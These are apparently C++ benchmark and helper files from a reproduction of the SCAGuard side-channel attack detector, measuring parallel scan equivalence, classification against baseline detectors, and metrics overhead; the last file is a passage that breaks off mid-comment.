// Batch-scan engine benchmark: N dataset targets x the full 11-PoC
// repository, comparing
//   - the serial Detector reference loop,
//   - BatchDetector at 1/2/4/8 threads with pruning off (verified
//     bit-identical to the serial loop), and
//   - BatchDetector with DTW pruning on (verdict-equivalent; pruning
//     counters reported).
// Exits non-zero only on an equivalence violation — never on a speedup
// shortfall, since wall-clock gains depend on the host's core count.
//
//     bench_parallel_scan [samples_per_type]
#include <chrono>
#include <cstdio>
#include <vector>

#include "attacks/registry.h"
#include "bench_common.h"
#include "cfg/cfg.h"
#include "core/batch_detector.h"
#include "core/detector.h"
#include "eval/experiments.h"
#include "support/thread_pool.h"

namespace scag {
namespace {

using Clock = std::chrono::steady_clock;

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

bool identical(const std::vector<core::Detection>& got,
               const std::vector<core::Detection>& want) {
  if (got.size() != want.size()) return false;
  for (std::size_t i = 0; i < want.size(); ++i) {
    if (got[i].verdict != want[i].verdict) return false;
    if (got[i].best_score != want[i].best_score) return false;
    if (got[i].scores.size() != want[i].scores.size()) return false;
    for (std::size_t j = 0; j < want[i].scores.size(); ++j) {
      if (got[i].scores[j].model_name != want[i].scores[j].model_name ||
          got[i].scores[j].score != want[i].scores[j].score ||
          got[i].scores[j].pruned)
        return false;
    }
  }
  return true;
}

int run(int argc, char** argv) {
  const std::size_t per_type = bench::samples_from_argv(argc, argv, 60);
  const eval::Dataset dataset = bench::make_dataset(per_type);

  // Full 11-PoC repository (every collected PoC, not just one per family).
  core::Detector detector(eval::experiment_model_config(),
                          eval::experiment_dtw_config(), eval::kThreshold);
  for (const attacks::PocSpec& spec : attacks::all_pocs())
    detector.enroll(spec.build(attacks::PocConfig{}), spec.family);

  // Model every sample once (the paper's protocol: one execution per
  // sample, reused everywhere); the scan stages then compare pure CST-BBS
  // sequences.
  std::vector<const eval::Sample*> samples;
  for (const eval::Sample& s : dataset.attacks) samples.push_back(&s);
  for (const eval::Sample& s : dataset.obfuscated) samples.push_back(&s);
  for (const eval::Sample& s : dataset.benign) samples.push_back(&s);

  std::printf("Modeling %zu targets...\n", samples.size());
  std::vector<core::CstBbs> targets(samples.size());
  for (std::size_t i = 0; i < samples.size(); ++i) {
    const cfg::Cfg cfg = cfg::Cfg::build(samples[i]->program);
    targets[i] = detector.builder()
                     .build_from_profile(cfg, samples[i]->profile,
                                         samples[i]->family)
                     .sequence;
  }

  std::printf("\nScanning %zu targets x %zu models (%zu pairs), host has "
              "%zu hardware thread(s)\n",
              targets.size(), detector.repository_size(),
              targets.size() * detector.repository_size(),
              support::ThreadPool::hardware_threads());
  if (support::ThreadPool::hardware_threads() == 1) {
    std::printf("note: single-core host — thread scaling cannot show a "
                "wall-clock win here; the pruned configuration is the "
                "single-core fast path.\n");
  }

  // Serial reference.
  auto t0 = Clock::now();
  std::vector<core::Detection> serial;
  serial.reserve(targets.size());
  for (const core::CstBbs& t : targets) serial.push_back(detector.scan(t));
  const double serial_s = seconds_since(t0);
  std::printf("\n%-28s %8.3f s  (reference)\n", "serial Detector::scan",
              serial_s);

  int failures = 0;

  // Parallel, pruning off: must be bit-identical to the serial loop.
  for (std::size_t threads : {1u, 2u, 4u, 8u}) {
    core::BatchConfig config;
    config.threads = threads;
    const core::BatchDetector batch(detector, config);
    t0 = Clock::now();
    const std::vector<core::Detection> got = batch.scan_all(targets);
    const double s = seconds_since(t0);
    const bool ok = identical(got, serial);
    if (!ok) ++failures;
    std::printf("%-2zu thread(s), prune off      %8.3f s  speedup %.2fx  %s\n",
                threads, s, serial_s / s,
                ok ? "[bit-identical]" : "[MISMATCH vs serial]");
  }

  // Parallel + pruning: verdicts (and best match, when attack) must agree.
  {
    core::BatchConfig config;
    config.prune = true;
    const core::BatchDetector batch(detector, config);
    t0 = Clock::now();
    const std::vector<core::Detection> got = batch.scan_all(targets);
    const double s = seconds_since(t0);

    bool ok = got.size() == serial.size();
    for (std::size_t i = 0; ok && i < serial.size(); ++i) {
      ok = got[i].verdict == serial[i].verdict &&
           (!serial[i].is_attack() ||
            (got[i].best_score == serial[i].best_score &&
             got[i].scores.front().model_name ==
                 serial[i].scores.front().model_name));
    }
    if (!ok) ++failures;
    std::printf("%-2zu thread(s), prune ON       %8.3f s  speedup %.2fx  %s\n",
                batch.threads(), s, serial_s / s,
                ok ? "[verdict-equivalent]" : "[MISMATCH vs serial]");

    const core::BatchStats stats = batch.stats();
    const double pruned_pct =
        stats.pairs == 0
            ? 0.0
            : 100.0 *
                  static_cast<double>(stats.lb_skipped +
                                      stats.early_abandoned) /
                  static_cast<double>(stats.pairs);
    std::printf("\npruning statistics: %llu pairs, %llu exact, "
                "%llu lower-bound skips, %llu early abandons "
                "(%.1f%% of the DP work pruned)\n",
                static_cast<unsigned long long>(stats.pairs),
                static_cast<unsigned long long>(stats.exact),
                static_cast<unsigned long long>(stats.lb_skipped),
                static_cast<unsigned long long>(stats.early_abandoned),
                pruned_pct);
  }

  if (failures > 0) {
    std::printf("\nFAILED: %d equivalence violation(s)\n", failures);
    return 1;
  }
  std::printf("\nall batch configurations equivalent to the serial scan\n");
  return 0;
}

}  // namespace
}  // namespace scag

int main(int argc, char** argv) { return scag::run(argc, argv); }
