// Shared helpers for the table/figure reproduction binaries.
//
// Every binary accepts an optional sample count:
//     bench_table6_classification [samples_per_type]
// The default is the paper's 400 per attack type. Use a smaller value for
// a quick run (e.g. 40).
#pragma once

#include <cstdio>
#include <cstdlib>
#include <string>

#include "eval/dataset.h"
#include "support/strings.h"

namespace scag::bench {

inline std::size_t samples_from_argv(int argc, char** argv,
                                     std::size_t fallback = 400) {
  if (argc > 1) {
    const long v = std::strtol(argv[1], nullptr, 10);
    if (v > 0) return static_cast<std::size_t>(v);
  }
  return fallback;
}

inline eval::Dataset make_dataset(std::size_t samples_per_type) {
  eval::DatasetConfig config;
  config.samples_per_type = samples_per_type;
  config.obfuscated_per_family = samples_per_type;
  std::printf(
      "Generating dataset: %zu samples per attack type, %zu obfuscated per "
      "family, %zu benign...\n",
      samples_per_type, samples_per_type, samples_per_type);
  return eval::generate_dataset(config);
}

/// "ours vs paper" annotation for a percentage cell.
inline std::string vs_paper(double ours, double paper) {
  return pct(ours) + " (paper " + pct(paper) + ")";
}

}  // namespace scag::bench
