// Shared helpers for the table/figure reproduction binaries.
//
// Every binary accepts an optional sample count:
//     bench_table6_classification [samples_per_type]
// The default is the paper's 400 per attack type. Use a smaller value for
// a quick run (e.g. 40).
//
// BenchTelemetry is the shared machine-readable report emitter: benches
// that leave a BENCH_<name>.json behind (bench_scan_throughput,
// bench_timecost) write it through this class so every report carries the
// same "scag-bench-v1" envelope (see docs/observability.md).
#pragma once

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <utility>
#include <vector>

#include "eval/dataset.h"
#include "support/strings.h"

namespace scag::bench {

inline std::size_t samples_from_argv(int argc, char** argv,
                                     std::size_t fallback = 400) {
  if (argc > 1) {
    const long v = std::strtol(argv[1], nullptr, 10);
    if (v > 0) return static_cast<std::size_t>(v);
  }
  return fallback;
}

inline eval::Dataset make_dataset(std::size_t samples_per_type) {
  eval::DatasetConfig config;
  config.samples_per_type = samples_per_type;
  config.obfuscated_per_family = samples_per_type;
  std::printf(
      "Generating dataset: %zu samples per attack type, %zu obfuscated per "
      "family, %zu benign...\n",
      samples_per_type, samples_per_type, samples_per_type);
  return eval::generate_dataset(config);
}

/// "ours vs paper" annotation for a percentage cell.
inline std::string vs_paper(double ours, double paper) {
  return pct(ours) + " (paper " + pct(paper) + ")";
}

/// Machine-readable bench report with a stable envelope:
///
///   {
///     "schema": "scag-bench-v1",
///     "bench": "<name>",
///     "metrics": {
///       "<key>": <value>,   // one metric per line, insertion order
///       ...
///     }
///   }
///
/// One metric per line keeps shell smoke tests trivial (`grep
/// '"memo_hits": *[1-9]'`); string values go through json_quote so a
/// hostile value can never break the document. Setting an existing key
/// overwrites it in place. The schema is documented in
/// docs/observability.md "Bench telemetry".
class BenchTelemetry {
 public:
  explicit BenchTelemetry(std::string name) : name_(std::move(name)) {}

  void set(const std::string& key, double v) {
    add(key, strfmt("%.6f", v));
  }
  void set_u64(const std::string& key, std::uint64_t v) {
    add(key, strfmt("%llu", static_cast<unsigned long long>(v)));
  }
  void set_bool(const std::string& key, bool v) {
    add(key, v ? "true" : "false");
  }
  void set_str(const std::string& key, std::string_view v) {
    add(key, json_quote(v));
  }

  std::string to_json() const {
    std::string out = "{\n";
    out += "  \"schema\": \"scag-bench-v1\",\n";
    out += "  \"bench\": " + json_quote(name_) + ",\n";
    out += "  \"metrics\": {\n";
    for (std::size_t i = 0; i < metrics_.size(); ++i) {
      out += "    " + json_quote(metrics_[i].first) + ": " +
             metrics_[i].second;
      out += i + 1 < metrics_.size() ? ",\n" : "\n";
    }
    out += "  }\n}\n";
    return out;
  }

  /// Tmp + rename so a failed run never leaves a truncated report; prints
  /// a one-line confirmation (or complaint) either way.
  bool write(const std::string& path) const {
    const std::string tmp = path + ".tmp";
    std::FILE* f = std::fopen(tmp.c_str(), "w");
    if (f == nullptr) {
      std::printf("cannot write %s\n", tmp.c_str());
      return false;
    }
    const std::string doc = to_json();
    const bool wrote = std::fwrite(doc.data(), 1, doc.size(), f) == doc.size();
    const bool closed = std::fclose(f) == 0;
    if (!wrote || !closed || std::rename(tmp.c_str(), path.c_str()) != 0) {
      std::remove(tmp.c_str());
      std::printf("cannot write %s\n", path.c_str());
      return false;
    }
    std::printf("wrote %s\n", path.c_str());
    return true;
  }

 private:
  void add(const std::string& key, std::string value) {
    for (auto& kv : metrics_) {
      if (kv.first == key) {
        kv.second = std::move(value);
        return;
      }
    }
    metrics_.emplace_back(key, std::move(value));
  }

  std::string name_;
  std::vector<std::pair<std::string, std::string>> metrics_;
};

}  // namespace scag::bench
