// Table VI: classification results of SCAGUARD and the four baseline
// detection approaches over the evaluation tasks E1-E4, printed with the
// paper's numbers alongside. Shape to check: SCAGUARD stays >90% precision
// on new-variant tasks while SCADET collapses to zero beyond E1/E2 and the
// learning baselines degrade on at least one generalization direction.
#include <cstdio>

#include "bench_common.h"
#include "eval/experiments.h"
#include "support/table.h"

using namespace scag;
using eval::Approach;
using eval::Task;

namespace {

struct PaperCell {
  double p, r, f1;
};

// Paper Table VI, in [approach][task] order.
const PaperCell kPaper[5][5] = {
    // E1                E2                E3-1              E3-2              E4
    {{.9458, .9420, .9424}, {.9049, .9000, .9004}, {.2101, .3625, .2661}, {.7899, .7375, .7251}, {.8949, .8889, .8888}},  // SVM-NW
    {{.6815, .5151, .4900}, {.6696, .5583, .5256}, {.7564, .7250, .7163}, {.6488, .6375, .6305}, {.4282, .6417, .5133}},  // LR-NW
    {{.9132, .9170, .9145}, {.4266, .6333, .5094}, {.6758, .6625, .6560}, {.8274, .7750, .7656}, {.8866, .8834, .8823}},  // KNN-MLFM
    {{.5000, .2750, .3548}, {0, 0, 0},             {0, 0, 0},             {0, 0, 0},             {0, 0, 0}},              // SCADET
    {{.9664, .9650, .9652}, {.9520, .9500, .9503}, {.9128, .9125, .9125}, {.9255, .9125, .9118}, {.9274, .9223, .9225}},  // SCAGUARD
};

}  // namespace

int main(int argc, char** argv) {
  const std::size_t n = bench::samples_from_argv(argc, argv);
  const eval::Dataset ds = bench::make_dataset(n);

  std::puts("\nRunning E1-E4 for all five approaches...");
  const eval::Table6 results = eval::run_classification(ds);

  const Approach approaches[] = {Approach::kSvmNw, Approach::kLrNw,
                                 Approach::kKnnMlfm, Approach::kScadet,
                                 Approach::kScaguard};
  const Task tasks[] = {Task::kE1, Task::kE2, Task::kE3_1, Task::kE3_2,
                        Task::kE4};

  std::puts(
      "\nTABLE VI: CLASSIFICATION RESULTS OF SCAGUARD AND THE 4 EXISTING "
      "APPROACHES");
  for (std::size_t ti = 0; ti < 5; ++ti) {
    const Task task = tasks[ti];
    std::printf("\n--- %s ---\n", std::string(eval::task_name(task)).c_str());
    Table t;
    t.header({"Approach", "Precision", "Recall", "F1-score",
              "Paper (P / R / F1)"});
    for (std::size_t ai = 0; ai < 5; ++ai) {
      const Prf prf = results.results.at(approaches[ai]).at(task);
      const PaperCell& paper = kPaper[ai][ti];
      t.row({std::string(eval::approach_name(approaches[ai])),
             pct(prf.precision), pct(prf.recall), pct(prf.f1),
             pct(paper.p) + " / " + pct(paper.r) + " / " + pct(paper.f1)});
    }
    t.print();
  }

  // Headline shape assertions, printed so the log is self-checking.
  const auto& sg = results.results.at(Approach::kScaguard);
  const auto& sc = results.results.at(Approach::kScadet);
  std::puts("\nShape checks:");
  std::printf("  SCAGUARD precision > 90%% on E1/E2/E3: %s\n",
              (sg.at(Task::kE1).precision > 0.9 &&
               sg.at(Task::kE2).precision > 0.9 &&
               sg.at(Task::kE3_1).precision > 0.9 &&
               sg.at(Task::kE3_2).precision > 0.9)
                  ? "PASS"
                  : "FAIL");
  std::printf("  SCADET zero on cross-family tasks (E3): %s\n",
              (sc.at(Task::kE3_1).f1 == 0.0 && sc.at(Task::kE3_2).f1 == 0.0)
                  ? "PASS"
                  : "FAIL");
  bool beats_scadet = true;
  for (Task task : tasks)
    beats_scadet &= sg.at(task).f1 > sc.at(task).f1;
  std::printf("  SCAGUARD beats SCADET on every task: %s\n",
              beats_scadet ? "PASS" : "FAIL");
  return 0;
}
