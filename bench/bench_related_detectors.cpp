// Related-work appendix (paper Section VI): the victim-oriented anomaly
// detector and the Phased-Guard-style two-stage detector, compared with
// SCAGuard on (a) attack DETECTION, (b) family CLASSIFICATION, and (c)
// false positives on the hard benign programs. Reproduces the paper's
// qualitative claims:
//   - anomaly detection needs no attack samples but cannot classify and
//     false-positives on unusual benign profiles;
//   - the phased pipeline classifies, but only families it trained on;
//   - SCAGuard classifies from one PoC per family.
#include <cstdio>

#include "baselines/anomaly.h"
#include "bench_common.h"
#include "cfg/cfg.h"
#include "eval/experiments.h"
#include "support/table.h"

using namespace scag;
using core::Family;

int main(int argc, char** argv) {
  const std::size_t n = bench::samples_from_argv(argc, argv, 120);
  eval::DatasetConfig config;
  config.samples_per_type = n;
  config.obfuscated_per_family = 0;
  std::printf("Generating dataset (%zu per type)...\n", n);
  const eval::Dataset ds = eval::generate_dataset(config);

  // Split benign in half: train / test.
  std::vector<trace::ExecutionProfile> benign_train;
  std::vector<const eval::Sample*> benign_test;
  for (std::size_t i = 0; i < ds.benign.size(); ++i) {
    if (i < ds.benign.size() / 2)
      benign_train.push_back(ds.benign[i].profile);
    else
      benign_test.push_back(&ds.benign[i]);
  }
  // Attack training data (phased stage 2): the FR and PP families only —
  // Spectre variants are "zero-day" for everything but SCAGuard's E2 logic.
  std::vector<trace::ExecutionProfile> attack_train;
  std::vector<Family> attack_labels;
  for (const eval::Sample& s : ds.attacks) {
    if (s.family == Family::kFlushReload || s.family == Family::kPrimeProbe) {
      attack_train.push_back(s.profile);
      attack_labels.push_back(s.family);
    }
  }

  baselines::AnomalyDetector anomaly;
  anomaly.train(benign_train);

  baselines::PhasedDetector phased;
  Rng rng(3);
  phased.train(benign_train, attack_train, attack_labels, rng);

  const core::Detector scaguard = eval::make_scaguard(
      {Family::kFlushReload, Family::kPrimeProbe, Family::kSpectreFR,
       Family::kSpectrePP});

  // Evaluate.
  struct Tally {
    std::size_t detected = 0, correctly_classified = 0, total = 0;
    std::size_t benign_fp = 0, benign_total = 0;
  };
  Tally t_anomaly, t_phased, t_scaguard;

  auto scaguard_verdict = [&scaguard](const eval::Sample& s) {
    const cfg::Cfg cfg = cfg::Cfg::build(s.program);
    const core::AttackModel m = scaguard.builder().build_from_profile(
        cfg, s.profile, s.family);
    return scaguard.scan(m.sequence).verdict;
  };

  for (const eval::Sample& s : ds.attacks) {
    // Spectre variants count as their base family for "classification".
    const Family truth = s.family == Family::kSpectreFR
                             ? Family::kFlushReload
                             : s.family == Family::kSpectrePP
                                   ? Family::kPrimeProbe
                                   : s.family;
    ++t_anomaly.total;
    t_anomaly.detected += anomaly.is_anomalous(s.profile);
    // Anomaly detection cannot classify at all.

    ++t_phased.total;
    const Family pf = phased.classify(s.profile);
    t_phased.detected += pf != Family::kBenign;
    t_phased.correctly_classified += pf == truth;

    ++t_scaguard.total;
    const Family sv = scaguard_verdict(s);
    t_scaguard.detected += sv != Family::kBenign;
    t_scaguard.correctly_classified +=
        sv == s.family || sv == truth;  // exact family or base family
  }
  for (const eval::Sample* s : benign_test) {
    ++t_anomaly.benign_total;
    t_anomaly.benign_fp += anomaly.is_anomalous(s->profile);
    ++t_phased.benign_total;
    t_phased.benign_fp += phased.classify(s->profile) != Family::kBenign;
    ++t_scaguard.benign_total;
    t_scaguard.benign_fp += scaguard_verdict(*s) != Family::kBenign;
  }

  auto frac = [](std::size_t a, std::size_t b) {
    return b == 0 ? 0.0 : static_cast<double>(a) / static_cast<double>(b);
  };

  Table t("\nRELATED-WORK DETECTORS (paper Section VI)");
  t.header({"Detector", "Attack samples needed", "Detection rate",
            "Correct family", "Benign FP rate"});
  t.row({"Anomaly (Chiappetta-style)", "none",
         pct(frac(t_anomaly.detected, t_anomaly.total)),
         "cannot classify",
         pct(frac(t_anomaly.benign_fp, t_anomaly.benign_total))});
  t.row({"Phased (Phased-Guard-style)", "many (FR/PP trained)",
         pct(frac(t_phased.detected, t_phased.total)),
         pct(frac(t_phased.correctly_classified, t_phased.total)),
         pct(frac(t_phased.benign_fp, t_phased.benign_total))});
  t.row({"SCAGUARD", "one PoC per family",
         pct(frac(t_scaguard.detected, t_scaguard.total)),
         pct(frac(t_scaguard.correctly_classified, t_scaguard.total)),
         pct(frac(t_scaguard.benign_fp, t_scaguard.benign_total))});
  t.print();

  std::puts(
      "\nExpected shape (paper Section VI): the anomaly detector detects\n"
      "much of the attack mass with zero attack training data but cannot\n"
      "name the family and pays a benign false-positive cost on unusual\n"
      "profiles; the phased pipeline classifies only what it trained on;\n"
      "SCAGuard does both from a single PoC per family.");
  return 0;
}
