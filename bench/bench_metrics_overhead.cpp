// Measures the hot-path cost of the support metrics layer: the pruned
// batch scan is timed with metrics recording enabled (the default) and
// with the runtime gate off, best-of-N each way. The runtime-off
// configuration is within one predicted branch per call site of a
// -DSCAG_METRICS_OFF build, so the delta bounds the instrumentation
// overhead. The target is <2%; the binary exits non-zero only on a gross
// regression (>25%), since small deltas drown in scheduler noise on
// loaded hosts.
//
//     bench_metrics_overhead [samples_per_type]
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <vector>

#include "attacks/registry.h"
#include "bench_common.h"
#include "cfg/cfg.h"
#include "core/batch_detector.h"
#include "core/detector.h"
#include "core/explain.h"
#include "eval/experiments.h"
#include "support/metrics.h"
#include "support/trace.h"

namespace scag {
namespace {

using Clock = std::chrono::steady_clock;

double scan_seconds(const core::BatchDetector& batch,
                    const std::vector<core::CstBbs>& targets) {
  const auto t0 = Clock::now();
  const std::vector<core::Detection> dets = batch.scan_all(targets);
  const double s = std::chrono::duration<double>(Clock::now() - t0).count();
  if (dets.size() != targets.size()) std::abort();  // sanity, not timing
  return s;
}

int run(int argc, char** argv) {
  const std::size_t per_type = bench::samples_from_argv(argc, argv, 40);
  const eval::Dataset dataset = bench::make_dataset(per_type);

  core::Detector detector(eval::experiment_model_config(),
                          eval::experiment_dtw_config(), eval::kThreshold);
  for (const attacks::PocSpec& spec : attacks::all_pocs())
    detector.enroll(spec.build(attacks::PocConfig{}), spec.family);

  std::vector<const eval::Sample*> samples;
  for (const eval::Sample& s : dataset.attacks) samples.push_back(&s);
  for (const eval::Sample& s : dataset.obfuscated) samples.push_back(&s);
  for (const eval::Sample& s : dataset.benign) samples.push_back(&s);

  std::printf("Modeling %zu targets...\n", samples.size());
  std::vector<core::CstBbs> targets(samples.size());
  for (std::size_t i = 0; i < samples.size(); ++i) {
    const cfg::Cfg cfg = cfg::Cfg::build(samples[i]->program);
    targets[i] = detector.builder()
                     .build_from_profile(cfg, samples[i]->profile,
                                         samples[i]->family)
                     .sequence;
  }

  core::BatchConfig config;
  config.prune = true;
  const core::BatchDetector batch(detector, config);

  if (!support::Registry::compiled_in()) {
    std::printf(
        "\nCompiled with SCAG_METRICS_OFF: the metrics layer is inline "
        "no-ops, overhead is zero by construction. Nothing to measure.\n");
    scan_seconds(batch, targets);  // still exercise the scan once
    // The explain layer must keep working with the instruments compiled
    // out (it only *uses* them, never requires them).
    const core::ScanReport report = detector.explain(
        targets.front(), "metrics-off-probe", core::ExplainConfig{});
    if (report.models.size() != detector.repository_size()) std::abort();
    std::printf("RESULT: overhead 0.00%% (compiled out) [OK]\n");
    return 0;
  }

  // Tracing stays at its default (off): the overhead claim covers the
  // always-on counters and timers, not explicit span capture.
  support::Tracer::global().set_enabled(false);

  constexpr int kReps = 5;
  std::printf("\nScanning %zu targets x %zu models, best of %d reps per "
              "configuration (interleaved)...\n",
              targets.size(), detector.repository_size(), kReps);

  scan_seconds(batch, targets);  // warm-up (page-in, allocator steady state)

  double best_on = 1e300, best_off = 1e300;
  for (int rep = 0; rep < kReps; ++rep) {
    // Interleave so drift (thermal, competing load) hits both equally.
    support::set_metrics_enabled(true);
    best_on = std::min(best_on, scan_seconds(batch, targets));
    support::set_metrics_enabled(false);
    best_off = std::min(best_off, scan_seconds(batch, targets));
  }
  support::set_metrics_enabled(true);

  const double overhead_pct = (best_on - best_off) / best_off * 100.0;
  std::printf("\n%-24s %9.4f s\n", "metrics enabled (best)", best_on);
  std::printf("%-24s %9.4f s\n", "metrics disabled (best)", best_off);
  std::printf("RESULT: overhead %+.2f%% (target < 2%%) %s\n", overhead_pct,
              overhead_pct < 2.0
                  ? "[OK]"
                  : overhead_pct <= 25.0 ? "[above target - likely noise]"
                                         : "[FAIL: gross regression]");

  const support::MetricsSnapshot snap = support::Registry::global().snapshot();
  std::uint64_t dtw_calls = 0;
  for (const support::CounterSample& c : snap.counters)
    if (c.name == "dtw.calls") dtw_calls = c.value;
  std::printf("(instrumentation saw %llu DTW calls during the enabled "
              "runs)\n",
              static_cast<unsigned long long>(dtw_calls));

  // Explain is a pull-only diagnostic path (core/explain.h): when nobody
  // asks for a report, the compiled scan must not pay for its existence,
  // and producing one must leave the scan's steady state (memo caches,
  // scratch buffers) untouched. Time the scan before and after a report;
  // same policy as above — the <2% target is informational, only a gross
  // regression (>25%) fails, since the true "zero overhead" claim is
  // structural (the compiled kernels are untouched by explain, and
  // tests/test_explain.cpp proves score bit-equality).
  double scan_pre = 1e300, scan_post = 1e300;
  for (int rep = 0; rep < kReps; ++rep)
    scan_pre = std::min(scan_pre, scan_seconds(batch, targets));
  const core::ScanReport report = detector.explain(
      targets.front(), "overhead-probe", core::ExplainConfig{});
  if (report.models.size() != detector.repository_size()) std::abort();
  for (int rep = 0; rep < kReps; ++rep)
    scan_post = std::min(scan_post, scan_seconds(batch, targets));
  const double explain_delta_pct = (scan_post - scan_pre) / scan_pre * 100.0;
  std::printf("\n%-24s %9.4f s\n", "scan before explain", scan_pre);
  std::printf("%-24s %9.4f s\n", "scan after explain", scan_post);
  std::printf("RESULT: explain residue %+.2f%% (target < 2%%) %s\n",
              explain_delta_pct,
              explain_delta_pct < 2.0
                  ? "[OK]"
                  : explain_delta_pct <= 25.0
                        ? "[above target - likely noise]"
                        : "[FAIL: gross regression]");

  return (overhead_pct > 25.0 || explain_delta_pct > 25.0) ? 1 : 0;
}

}  // namespace
}  // namespace scag

int main(int argc, char** argv) { return scag::run(argc, argv); }
