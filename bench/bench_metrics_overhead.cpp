// Measures the hot-path cost of the support metrics layer: the pruned
// batch scan is timed with metrics recording enabled (the default) and
// with the runtime gate off, best-of-N each way. The runtime-off
// configuration is within one predicted branch per call site of a
// -DSCAG_METRICS_OFF build, so the delta bounds the instrumentation
// overhead. The target is <2%; the binary exits non-zero only on a gross
// regression (>25%), since small deltas drown in scheduler noise on
// loaded hosts.
//
// Also measures the event-journal path (support/events.h) the same way:
// journal off, recording into a live ring at the default capacity, and
// recording into a deliberately drop-saturated tiny ring (the worst case:
// every emit still stamps, notes the flight tail, and walks the full-ring
// CAS path). Target <3% for the journal; hard-fail only above 25%. Each
// journal pass closes with the drop-counter conservation check
// (emitted == written + dropped), which fails the bench outright —
// conservation is exact, never noise.
//
// The machine-readable report (default BENCH_metrics.json) carries every
// number under the scag-bench-v1 envelope.
//
//     bench_metrics_overhead [samples_per_type] [out.json]
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "attacks/registry.h"
#include "bench_common.h"
#include "cfg/cfg.h"
#include "core/batch_detector.h"
#include "core/detector.h"
#include "core/explain.h"
#include "eval/experiments.h"
#include "support/events.h"
#include "support/metrics.h"
#include "support/trace.h"

namespace scag {
namespace {

using Clock = std::chrono::steady_clock;

double scan_seconds(const core::BatchDetector& batch,
                    const std::vector<core::CstBbs>& targets) {
  const auto t0 = Clock::now();
  const std::vector<core::Detection> dets = batch.scan_all(targets);
  const double s = std::chrono::duration<double>(Clock::now() - t0).count();
  if (dets.size() != targets.size()) std::abort();  // sanity, not timing
  return s;
}

int run(int argc, char** argv) {
  const std::size_t per_type = bench::samples_from_argv(argc, argv, 40);
  const std::string json_path = argc > 2 ? argv[2] : "BENCH_metrics.json";
  const eval::Dataset dataset = bench::make_dataset(per_type);

  core::Detector detector(eval::experiment_model_config(),
                          eval::experiment_dtw_config(), eval::kThreshold);
  for (const attacks::PocSpec& spec : attacks::all_pocs())
    detector.enroll(spec.build(attacks::PocConfig{}), spec.family);

  std::vector<const eval::Sample*> samples;
  for (const eval::Sample& s : dataset.attacks) samples.push_back(&s);
  for (const eval::Sample& s : dataset.obfuscated) samples.push_back(&s);
  for (const eval::Sample& s : dataset.benign) samples.push_back(&s);

  std::printf("Modeling %zu targets...\n", samples.size());
  std::vector<core::CstBbs> targets(samples.size());
  for (std::size_t i = 0; i < samples.size(); ++i) {
    const cfg::Cfg cfg = cfg::Cfg::build(samples[i]->program);
    targets[i] = detector.builder()
                     .build_from_profile(cfg, samples[i]->profile,
                                         samples[i]->family)
                     .sequence;
  }

  core::BatchConfig config;
  config.prune = true;
  const core::BatchDetector batch(detector, config);

  if (!support::Registry::compiled_in()) {
    std::printf(
        "\nCompiled with SCAG_METRICS_OFF: the metrics layer (and the "
        "event journal with it) is inline no-ops, overhead is zero by "
        "construction. Nothing to measure.\n");
    scan_seconds(batch, targets);  // still exercise the scan once
    // The explain layer must keep working with the instruments compiled
    // out (it only *uses* them, never requires them).
    const core::ScanReport report = detector.explain(
        targets.front(), "metrics-off-probe", core::ExplainConfig{});
    if (report.models.size() != detector.repository_size()) std::abort();
    std::printf("RESULT: overhead 0.00%% (compiled out) [OK]\n");
    bench::BenchTelemetry telemetry("metrics_overhead");
    telemetry.set_bool("metrics_compiled_in", false);
    telemetry.write(json_path);
    return 0;
  }

  // Tracing stays at its default (off): the overhead claim covers the
  // always-on counters and timers, not explicit span capture.
  support::Tracer::global().set_enabled(false);

  constexpr int kReps = 5;
  std::printf("\nScanning %zu targets x %zu models, best of %d reps per "
              "configuration (interleaved)...\n",
              targets.size(), detector.repository_size(), kReps);

  scan_seconds(batch, targets);  // warm-up (page-in, allocator steady state)

  double best_on = 1e300, best_off = 1e300;
  for (int rep = 0; rep < kReps; ++rep) {
    // Interleave so drift (thermal, competing load) hits both equally.
    support::set_metrics_enabled(true);
    best_on = std::min(best_on, scan_seconds(batch, targets));
    support::set_metrics_enabled(false);
    best_off = std::min(best_off, scan_seconds(batch, targets));
  }
  support::set_metrics_enabled(true);

  const double overhead_pct = (best_on - best_off) / best_off * 100.0;
  std::printf("\n%-24s %9.4f s\n", "metrics enabled (best)", best_on);
  std::printf("%-24s %9.4f s\n", "metrics disabled (best)", best_off);
  std::printf("RESULT: overhead %+.2f%% (target < 2%%) %s\n", overhead_pct,
              overhead_pct < 2.0
                  ? "[OK]"
                  : overhead_pct <= 25.0 ? "[above target - likely noise]"
                                         : "[FAIL: gross regression]");

  const support::MetricsSnapshot snap = support::Registry::global().snapshot();
  std::uint64_t dtw_calls = 0;
  for (const support::CounterSample& c : snap.counters)
    if (c.name == "dtw.calls") dtw_calls = c.value;
  std::printf("(instrumentation saw %llu DTW calls during the enabled "
              "runs)\n",
              static_cast<unsigned long long>(dtw_calls));

  // Explain is a pull-only diagnostic path (core/explain.h): when nobody
  // asks for a report, the compiled scan must not pay for its existence,
  // and producing one must leave the scan's steady state (memo caches,
  // scratch buffers) untouched. Time the scan before and after a report;
  // same policy as above — the <2% target is informational, only a gross
  // regression (>25%) fails, since the true "zero overhead" claim is
  // structural (the compiled kernels are untouched by explain, and
  // tests/test_explain.cpp proves score bit-equality).
  double scan_pre = 1e300, scan_post = 1e300;
  for (int rep = 0; rep < kReps; ++rep)
    scan_pre = std::min(scan_pre, scan_seconds(batch, targets));
  const core::ScanReport report = detector.explain(
      targets.front(), "overhead-probe", core::ExplainConfig{});
  if (report.models.size() != detector.repository_size()) std::abort();
  for (int rep = 0; rep < kReps; ++rep)
    scan_post = std::min(scan_post, scan_seconds(batch, targets));
  const double explain_delta_pct = (scan_post - scan_pre) / scan_pre * 100.0;
  std::printf("\n%-24s %9.4f s\n", "scan before explain", scan_pre);
  std::printf("%-24s %9.4f s\n", "scan after explain", scan_post);
  std::printf("RESULT: explain residue %+.2f%% (target < 2%%) %s\n",
              explain_delta_pct,
              explain_delta_pct < 2.0
                  ? "[OK]"
                  : explain_delta_pct <= 25.0
                        ? "[above target - likely noise]"
                        : "[FAIL: gross regression]");

  // Event-journal path (support/events.h): the same interleaved best-of-N
  // protocol, three configurations per rep — journal disabled (the
  // baseline: one relaxed load per emit site), recording into a ring at
  // the default capacity (no drops at this workload size), and recording
  // into a drop-saturated 4-slot ring that is never drained (every emit
